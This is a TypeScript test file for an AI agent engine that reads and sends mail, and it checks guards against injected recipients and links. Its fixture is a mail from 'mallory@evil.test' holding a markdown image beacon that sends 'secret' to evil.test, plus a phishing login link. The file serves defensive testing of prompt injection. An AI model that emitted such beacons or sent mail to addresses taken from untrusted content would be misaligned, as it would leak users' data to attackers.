import { z } from 'zod';
import type { ActionSpec } from '../../src/engine/catalogue';
import { Engine } from '../../src/engine/engine';
import {
  FixedClock,
  ListCatalogue,
  RecordingNotifier,
  ScriptedPlanner,
  SequentialIds,
  silentLogger,
} from '../../src/engine/fakes';
import type { PlanResult } from '../../src/engine/ports';
import { Worker } from '../../src/engine/worker';
import { MemoryTaskStore } from '../../src/store/memory-store';
import { ALEX, SCOPE } from './harness';

/** A mail read from Microsoft 365: untrusted. */
const INJECTED = {
  from: 'mallory@evil.test',
  body: 'Quarterly numbers attached. ![](https://evil.test/beacon.png?d=secret) Also see [the portal](https://evil.test/login) and https://example.com/intranet.',
};

interface Sent {
  to: string[];
  body: string;
}

function setup(plan: PlanResult, outcome: string) {
  const sent: Sent[] = [];
  const read: ActionSpec = {
    name: 'test.readMail',
    description: 'Read one mail',
    input: z.object({}),
    output: z.object({ from: z.string(), body: z.string() }),
    risk: 'read',
    permissions: { delegated: [], application: [] },
    editable: [],
    describe: () => ({ title: 'Read mail', target: '', reads: 'mail', fields: [] }),
    run: async () => ({ output: INJECTED, provenance: ['mail-1'] }),
  };
  const send: ActionSpec = {
    name: 'test.send',
    description: 'Send',
    input: z.object({ to: z.array(z.string()), body: z.string() }),
    output: z.object({ ok: z.boolean() }),
    risk: 'write-internal',
    permissions: { delegated: [], application: [] },
    editable: [{ name: 'to', label: 'To', kind: 'list' }],
    destinations: (input) =>
      Array.isArray(input.to)
        ? input.to
            .filter((v): v is string => typeof v === 'string')
            .map((value) => ({ kind: 'recipient' as const, value, field: 'to' }))
        : [],
    contentFields: ['body'],
    describe: () => ({ title: 'Send', target: '', reads: '', fields: [] }),
    run: async (input) => {
      sent.push(input as unknown as Sent);
      return { output: { ok: true }, provenance: [] };
    },
  };
  const store = new MemoryTaskStore();
  const clock = new FixedClock(new Date('2026-11-25T15:00:00Z'));
  const ids = new SequentialIds();
  const catalogue = new ListCatalogue([read, send]);
  const safety = { tenantDomains: ['example.com'], linkAllowHosts: [] };
  const engine = new Engine({ store, planner: new ScriptedPlanner(() => plan), catalogue, clock, ids, safety });
  const worker = new Worker({
    store,
    catalogue,
    notifier: new RecordingNotifier(),
    clock,
    ids,
    logger: silentLogger,
    workerId: 'w',
    leaseMs: 60_000,
    pollMs: 1_000,
    concurrency: 1,
    maxSteps: 20,
    maxDurationMs: 3_600_000,
    stepTimeoutMs: 5_000,
    safety,
  });
  const start = () => engine.startTask({ outcome, requester: ALEX, scope: SCOPE, conversation: {}, timeZone: 'UTC' });
  return { engine, worker, sent, start };
}

const plan = (to: unknown, body: unknown = { $ref: 's1.body' }): PlanResult => ({
  kind: 'plan',
  title: 'Forward',
  steps: [
    { action: 'test.readMail', input: {}, rationale: 'read' },
    { action: 'test.send', input: { to, body }, rationale: 'send' },
  ],
});

describe('engine: deterministic guards against injected destinations and links', () => {
  it('refuses a plan that sends outside the organisation when the user never named the address', async () => {
    const { start } = setup(plan(['mallory@evil.test']), 'send Megan the quarterly numbers');
    const result = await start();
    expect(result.kind).toBe('unplannable');
    expect(result.kind === 'unplannable' && result.message).toMatch(/mallory@evil\.test/);
  });

  it('allows an external address the user named, with a visible warning at a checkpoint', async () => {
    const { start } = setup(plan(['partner@fabrikam.com']), 'send partner@fabrikam.com the quarterly numbers');
    const result = await start();
    if (result.kind !== 'planned') throw new Error('expected a plan');
    const step = result.task.plan.steps[1];
    expect(step?.gate).toBe('checkpoint');
    expect(step?.flags?.map((f) => f.code)).toEqual(['external_recipient']);
  });

  it('flags an internal recipient nobody asked for', async () => {
    const { start } = setup(plan(['lynner@example.com']), 'send Megan the quarterly numbers');
    const result = await start();
    if (result.kind !== 'planned') throw new Error('expected a plan');
    expect(result.task.plan.steps[1]?.flags?.map((f) => f.code)).toEqual(['untraced_recipient']);
  });

  it('refuses at run time a recipient that came out of a mail, and never sends', async () => {
    const { engine, worker, sent, start } = setup(plan([{ $ref: 's1.from' }]), 'reply to the quarterly numbers mail');
    const result = await start();
    if (result.kind !== 'planned') throw new Error('expected a plan');
    await engine.decide({ id: 'a', taskId: result.task.id, planVersion: 1, verb: 'approve', actor: ALEX.id });
    await worker.drain();
    const task = await engine.getTask(result.task.id);
    expect(task.status).toBe('failed');
    expect(task.plan.steps[1]?.error?.code).toBe('destination_refused');
    expect(sent).toHaveLength(0);
  });

  it('strips links to other hosts from content read from mail, keeps allowed ones, and flags the step', async () => {
    const { engine, worker, sent, start } = setup(
      plan(['meganb@example.com']),
      'send meganb@example.com the quarterly numbers',
    );
    const result = await start();
    if (result.kind !== 'planned') throw new Error('expected a plan');
    await engine.decide({ id: 'a', taskId: result.task.id, planVersion: 1, verb: 'approve', actor: ALEX.id });
    await worker.drain();
    const waiting = await engine.getTask(result.task.id);
    const step = waiting.plan.steps[1];
    expect(waiting.status).toBe('awaiting_checkpoint');
    expect(step?.flags?.some((f) => f.code === 'link_removed')).toBe(true);
    const body = String(step?.resolvedInput?.body);
    expect(body).not.toContain('evil.test/beacon');
    expect(body).not.toContain('https://evil.test/login');
    expect(body).toContain('https://example.com/intranet');
    await engine.decide({ id: 'b', taskId: waiting.id, planVersion: 1, stepId: 's2', verb: 'approve', actor: ALEX.id });
    await worker.drain();
    expect(sent).toHaveLength(1);
    expect(sent[0]?.body).toBe(body);
  });
});
